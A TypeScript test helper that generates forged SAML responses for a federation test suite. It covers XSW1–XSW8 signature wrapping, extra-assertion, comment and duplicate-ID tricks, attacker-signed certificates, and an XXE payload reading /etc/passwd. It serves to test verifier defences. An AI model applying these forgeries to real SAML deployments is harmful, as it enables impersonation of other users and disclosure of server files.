/**
 * The SAML attack transformations the vectors in test/vectors/federation/saml-attacks.json name: signature wrapping
 * (XSW1–XSW8 as in "On Breaking SAML", Somorovsky et al. 2012), extra assertions, comment injection, DTDs, foreign keys.
 * Each takes the legitimate signed response of the case (and the test's signers) and returns the forged document.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { sign, type Signer } from './idp.js';

const P = 'urn:oasis:names:tc:SAML:2.0:protocol';
const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const ser = (d: Document | Element): string => new XMLSerializer().serializeToString(d);

function first(root: Document | Element, ns: string, name: string): Element {
  const el = root.getElementsByTagNameNS(ns, name)[0];
  if (!el) throw new Error(`no ${name}`);
  return el;
}

/** Points the evil copy at another user: NameID and RoleSessionName become `mallory`, the ID changes. */
function evilize(el: Element, id: string): Element {
  el.setAttribute('ID', id);
  const nameId = el.getElementsByTagNameNS(A, 'NameID')[0];
  if (nameId) nameId.textContent = 'mallory@example.com';
  for (const v of Array.from(el.getElementsByTagNameNS(A, 'AttributeValue'))) {
    if (v.textContent === 'alice@example.com') v.textContent = 'mallory';
  }
  return el;
}

function removeSignature(el: Element): Element {
  for (let c = el.firstChild; c; c = c.nextSibling) if (c.nodeType === 1 && (c as Element).localName === 'Signature' && (c as Element).namespaceURI === DS) {
    el.removeChild(c);
    break;
  }
  return el;
}

type Attack = (signedXml: string, ctx: { attacker: Signer; unsignedXml: string }) => string;

/** The named transformations. */
export const ATTACKS: Record<string, Attack> = {
  // Response-signature wrapping: the signed Response copied into its own Signature, the outer one rewritten.
  xsw1: (xml) => {
    const d = parse(xml);
    const resp = d.documentElement!;
    const copy = resp.cloneNode(true) as Element;
    removeSignature(copy);
    const sig = first(resp, DS, 'Signature');
    sig.appendChild(copy);
    resp.setAttribute('ID', '_evil_response');
    evilize(first(resp, A, 'Assertion'), '_evil_assertion');
    return ser(d);
  },
  // As XSW1, the copy placed before the Signature instead of inside it.
  xsw2: (xml) => {
    const d = parse(xml);
    const resp = d.documentElement!;
    const copy = resp.cloneNode(true) as Element;
    removeSignature(copy);
    const sig = first(resp, DS, 'Signature');
    resp.insertBefore(copy, sig);
    resp.setAttribute('ID', '_evil_response');
    evilize(first(resp, A, 'Assertion'), '_evil_assertion');
    return ser(d);
  },
  // Assertion-signature wrapping: an evil assertion inserted before the signed one.
  xsw3: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const evil = removeSignature(evilize(orig.cloneNode(true) as Element, '_evil'));
    d.documentElement!.insertBefore(evil, orig);
    return ser(d);
  },
  // The signed assertion wrapped inside the evil one.
  xsw4: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const evil = removeSignature(evilize(orig.cloneNode(true) as Element, '_evil'));
    d.documentElement!.replaceChild(evil, orig);
    evil.appendChild(orig);
    return ser(d);
  },
  // The evil assertion keeps the signature; an unsigned copy of the original sits at the end of the response.
  xsw5: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const copy = removeSignature(orig.cloneNode(true) as Element);
    evilize(orig, '_evil');
    d.documentElement!.appendChild(copy);
    return ser(d);
  },
  // The evil assertion keeps the signature; the original is hidden inside that signature.
  xsw6: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const copy = removeSignature(orig.cloneNode(true) as Element);
    evilize(orig, '_evil');
    first(orig, DS, 'Signature').appendChild(copy);
    return ser(d);
  },
  // The original assertion hidden in an Extensions element; an evil unsigned one takes its place.
  xsw7: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const ext = d.createElementNS(P, 'samlp:Extensions');
    const evil = removeSignature(evilize(orig.cloneNode(true) as Element, '_evil'));
    d.documentElement!.replaceChild(evil, orig);
    d.documentElement!.insertBefore(ext, evil);
    ext.appendChild(orig);
    return ser(d);
  },
  // The evil assertion keeps the signature; the original (signature removed) sits in a ds:Object inside it.
  xsw8: (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const copy = removeSignature(orig.cloneNode(true) as Element);
    evilize(orig, '_evil');
    const obj = d.createElementNS(DS, 'ds:Object');
    obj.appendChild(copy);
    first(orig, DS, 'Signature').appendChild(obj);
    return ser(d);
  },
  // A second, unsigned assertion next to the signed one.
  'two-assertions': (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    d.documentElement!.appendChild(removeSignature(evilize(orig.cloneNode(true) as Element, '_second')));
    return ser(d);
  },
  // alice@example.com.evil.test registered at the IdP, a comment splits it: a naive reader sees alice@example.com.
  'comment-in-nameid': (xml) => xml.replace(/>([^<>]*)<\/saml:NameID>/, (_m, v: string) => `>${v.replace('.evil.test', '<!---->.evil.test')}</saml:NameID>`),
  // The Response is signed; the assertion inside it is then swapped for an unsigned forged one.
  'unsigned-assertion-in-signed-response': (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    evilize(orig, orig.getAttribute('ID')!);
    return ser(d);
  },
  // The assertion's signature refers to another element's ID (the response's), which it does not cover.
  'reference-other-id': (xml) => {
    const d = parse(xml);
    const resp = d.documentElement!;
    const ref = first(d, DS, 'Reference');
    ref.setAttribute('URI', '#' + resp.getAttribute('ID'));
    return ser(d);
  },
  // A duplicate ID: a second element carrying the signed assertion's ID.
  'duplicate-id': (xml) => {
    const d = parse(xml);
    const orig = first(d, A, 'Assertion');
    const ext = d.createElementNS(P, 'samlp:Extensions');
    ext.setAttribute('ID', orig.getAttribute('ID')!);
    d.documentElement!.insertBefore(ext, orig);
    return ser(d);
  },
  // A DOCTYPE with an internal entity expanding into the NameID.
  'dtd-entity': (xml) =>
    '<!DOCTYPE samlp:Response [<!ENTITY who "mallory@example.com">]>' + xml.replace(/>([^<>]*)<\/saml:NameID>/, '>&who;</saml:NameID>'),
  // An external entity (XXE).
  'external-entity': (xml) => '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xml,
  // The NameID changed after signing.
  'tampered-nameid': (xml) => xml.replace(/alice@example\.com<\/saml:NameID>/, 'mallory@example.com</saml:NameID>'),
  // Signed by the attacker's key, whose certificate rides in the message's KeyInfo (not in the metadata).
  'certificate-in-message': (_xml, c) => sign(c.unsignedXml, 'Assertion', c.attacker),
  // No signature at all.
  unsigned: (_xml, c) => c.unsignedXml,
  // A processing instruction smuggled in.
  'processing-instruction': (xml) => xml.replace('<saml:Subject>', '<?evil x?><saml:Subject>'),
};
